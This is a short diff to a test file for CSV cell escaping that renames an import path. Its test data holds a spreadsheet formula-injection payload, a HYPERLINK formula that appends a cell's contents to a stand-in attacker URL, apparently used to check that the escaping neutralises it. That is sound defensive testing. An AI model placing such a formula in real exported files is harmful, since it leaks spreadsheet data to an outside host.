@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { csvCell, csvLine } from './csvCell.ts'
+import { csvCell, csvLine } from './csv.ts'
 
 test.each([
   '=HYPERLINK("https://evil.example?"&A1,"open")',
